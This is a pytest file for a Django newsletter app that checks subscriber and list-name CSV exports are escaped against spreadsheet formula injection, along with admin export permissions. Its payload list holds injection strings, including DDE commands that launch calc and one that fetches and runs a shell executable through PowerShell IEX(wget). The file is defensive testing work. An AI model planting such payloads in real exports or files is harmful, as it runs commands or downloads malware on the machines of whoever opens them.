import csv
import json
import re
from io import StringIO
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from hypothesis import given
from hypothesis import strategies as st

from newsletter.cells import harmless, plain
from newsletter.models import Subscriber, Subscription
from tests.newsletter.conftest import the_list
from tests.newsletter.making import a_list, a_subscriber
from tests.newsletter.test_admin import signed_in

# What OWASP and the collections of payloads name, and their full-width and small forms.
DANGEROUS = [
    "=1+1", "+1", "-1", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1", "\r=1", "\n=1",
    "=10+20+cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(wget x/shell.exe)'!A0",
    '=HYPERLINK("http://x","y")', " =1+1", "\u00a0=1", "\u3000=1",
    "＝1", "＋1", "－1", "＠x", "﹦1", "﹢1", "﹣1", "﹫x", "'=1", "''=1",
]  # fmt: skip


@pytest.mark.parametrize("value", DANGEROUS)
def test_no_cell_begins_a_formula(value):
    assert harmless(value) == f"'{value}"
    assert plain(harmless(value)) == value


@pytest.mark.parametrize("value", ["", "Kim", "o'neil@example.org", "'q'", "1-2", "a=b", "홍길동"])
def test_other_cells_stay_as_they_are(value):
    assert harmless(value) == plain(value) == value


@given(st.text())
def test_what_is_exported_is_imported_as_it_was(value):
    assert plain(harmless(value)) == value


def exported(slug: str = "new-publications") -> str:
    out = StringIO()
    call_command("export_subscribers", "-", "--list", slug, stdout=out)
    return out.getvalue()


def test_a_list_is_exported_with_status_and_dates(db):
    other = a_list("Trade")
    a_subscriber("=1+1@example.org", lists=[the_list()], language="ko")
    a_subscriber("left@example.org", lists=[the_list()], status="unsubscribed")
    a_subscriber("elsewhere@example.org", lists=[other])
    text = exported()
    assert text.startswith("\ufeff")
    header, first, second = csv.reader(text.removeprefix("\ufeff").splitlines())
    assert header[:3] == ["email", "list", "status"]
    assert first[:5] == ["'=1+1@example.org", "New publications", "active", "ko", "each"]
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d", first[7])
    assert (second[0], second[2], second[7]) == ("left@example.org", "unsubscribed", "")


def test_a_hostile_name_of_a_list_is_harmless_too(db):
    a_subscriber(lists=[a_list('=HYPERLINK("http://x";"y")', slug="trade")])
    assert '"\'=HYPERLINK(""http://x"";""y"")"' in exported("trade")


def test_an_export_can_be_imported_elsewhere(db, tmp_path):
    a_subscriber("=1+1@example.org", lists=[the_list()])
    a_list("Copy", slug="copy")
    path = tmp_path / "people.csv"
    call_command("export_subscribers", str(path), "--list", "new-publications")
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    call_command("import_subscribers", path, "--list", "copy", "--proof", "x", stdout=StringIO())
    assert Subscriber.objects.count() == 1
    assert Subscription.objects.filter(mailing_list__slug="copy", status="active").count() == 1


def test_an_unknown_list_and_a_bad_place_are_said_to_be(db, tmp_path):
    with pytest.raises(CommandError, match="no list “nope”"):
        exported("nope")
    with pytest.raises(CommandError, match="cannot be written"):
        call_command("export_subscribers", tmp_path / "no" / "x", "--list", "new-publications")


def test_the_desk_hands_out_a_list_in_pieces(db):
    a_subscriber("kim@example.org", lists=[the_list()])
    client = signed_in("view_subscriber")
    assert "New publications" in client.get("/admin/newsletter/subscriber/export/").content.decode()
    answer = client.get("/admin/newsletter/subscriber/export/?mailing_list=new-publications")
    assert answer.streaming
    assert "attachment" in answer["Content-Disposition"]
    assert b"kim@example.org" in b"".join(answer.streaming_content)
    unknown = client.get("/admin/newsletter/subscriber/export/?mailing_list=nope")
    assert "Select a valid choice" in unknown.content.decode()


def test_exporting_needs_the_right_to(db):
    client = signed_in("view_suppression")
    answer = client.get("/admin/newsletter/subscriber/export/?mailing_list=new-publications")
    assert answer.status_code == 403


def test_everything_about_a_person_is_handed_out_after_asking(db):
    person = a_subscriber("kim@example.org", lists=[the_list()])
    address = f"/admin/newsletter/subscriber/{person.pk}/export/"
    client = signed_in("view_subscriber", "view_consentevent", "view_delivery")
    assert "Export everything about kim@example.org?" in client.get(address).content.decode()
    answer = client.post(address)
    assert "attachment" in answer["Content-Disposition"]
    assert json.loads(answer.content)["subscriber"]["address"] == "kim@example.org"
    assert signed_in("view_subscriber").post(address).status_code == 403
    assert client.get("/admin/newsletter/subscriber/0/export/").status_code == 404


def test_the_payloads_of_the_library_are_harmless():
    folder = Path(__file__).parents[3] / "shared/data/security/csv"
    if not folder.is_dir():
        pytest.skip("the shared data is not here")
    payloads = [
        line.strip()
        for path in folder.iterdir()
        for line in path.read_text(encoding="utf-8").splitlines()
        if line.strip().startswith(("=", "+", "-", "@"))
    ]
    assert len(payloads) > 5
    assert all(harmless(each).startswith("'") for each in payloads)
